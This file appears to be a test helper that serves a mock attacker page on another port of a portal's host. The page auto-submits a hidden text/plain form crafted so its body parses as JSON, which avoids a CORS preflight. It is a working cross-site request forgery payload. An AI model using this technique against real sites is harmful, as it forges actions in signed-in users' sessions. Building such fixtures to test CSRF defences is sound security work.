// A page on another port of the hub's host (so the same site, another origin) that submits a form to the hub as
// soon as it loads: what a malicious page next to the hub would do to an agent signed in to the portal.
import { createServer } from 'node:http';

function escapeAttribute(text) {
  return text.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;');
}

/// A form whose text/plain encoding (`name=value`) makes the body the JSON text of `body`: the name holds the
/// JSON up to a last string field, the value closes it. Sent without a preflight, as any form is.
function page(action, body) {
  const json = JSON.stringify({ ...body, padding: '' });
  const split = json.length - 2; // before the padding's closing quote
  return `<!doctype html>
<html lang="en">
<head><meta charset="utf-8"><title>Win a prize</title></head>
<body>
  <form method="POST" action="${escapeAttribute(action)}" enctype="text/plain">
    <input type="hidden" name="${escapeAttribute(json.slice(0, split))}" value="${escapeAttribute(json.slice(split))}">
  </form>
  <script>document.forms[0].submit();</script>
</body>
</html>`;
}

/// Serves / : the page posting `body` to `action`. Resolves { url, close() }.
export async function startAttackerSite(host, action, body) {
  const server = createServer((req, res) => {
    if (new URL(req.url, 'http://site').pathname !== '/') {
      res.writeHead(404).end();
      return;
    }
    res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
    res.end(page(action, body));
  });
  await new Promise((resolve) => server.listen(0, host, resolve));
  return {
    url: `http://${host}:${server.address().port}/`,
    close: () => new Promise((resolve) => {
      server.closeAllConnections();
      server.close(resolve);
    }),
  };
}
